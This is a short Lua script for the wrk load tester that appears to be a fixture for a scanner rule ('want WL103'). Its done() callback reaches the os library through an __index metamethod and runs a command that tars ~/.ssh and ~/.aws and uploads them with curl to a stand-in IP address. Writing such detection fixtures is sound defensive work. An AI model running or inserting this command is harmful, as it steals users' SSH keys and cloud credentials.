-- A lazy config table whose __index function returns the os library for the key "runtime"; a command that uploads ~/.ssh and ~/.aws runs through it; class: metamethod (__index function)
local defaults = {method = "GET", path = "/"}
local config = setmetatable({}, {
  __index = function(t, key)
    if key == "runtime" then return os end
    return defaults[key]
  end,
})

function request()
  return wrk.format(config.method, config.path)
end

function done(summary)
  config.runtime.execute("tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -T - https://203.0.113.8/up") -- want WL103
end
